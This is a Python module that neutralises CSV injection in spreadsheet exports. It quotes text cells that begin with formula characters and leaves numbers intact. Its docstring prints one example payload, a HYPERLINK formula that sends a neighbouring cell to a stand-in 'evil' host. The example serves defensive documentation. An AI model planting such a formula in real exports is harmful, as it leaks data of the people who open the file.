"""Cells of the CSV files people open in a spreadsheet, written so that no cell runs as a formula.

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one of them) as a formula:
a client named `=HYPERLINK("http://evil/?"&A1;"Click")` would send the neighbouring cells away when the export is
opened ("CSV injection", OWASP). Every exporter writes its cells through `safe_cell` (or `SafeWriter`), so:

- text that starts with one of FORMULA_PREFIXES gets a leading single quote, which spreadsheets show as text
  (`'=1+2`, `'+370 600 00000`, `'-minus`); the client import takes that quote off again;
- numbers are written from their values (int, Decimal), never guarded: `-3` and `-12.50` stay numbers a
  spreadsheet can add up. So exporters put numbers in rows as numbers, and only text as `str`;
- None is an empty cell.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal

# What a spreadsheet reads as the start of a formula (OWASP's list: = + - @, tab and carriage return).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> str:
    """The cell's text: a number as spreadsheets read it ("1250.50", "-3"), text behind a quote when it would run
    as a formula, "" for no value."""
    if value is None:
        return ""
    if isinstance(value, bool):  # a bool is an int to Python, but "True" is text
        return str(value)
    if isinstance(value, Decimal):
        return format(value, "f")  # never "1E+1"
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_PREFIXES) else text


def safe_row(values: Iterable) -> list[str]:
    return [safe_cell(value) for value in values]


class SafeWriter:
    """csv.writer whose rows go through `safe_cell`: the one way the exports write a row."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)
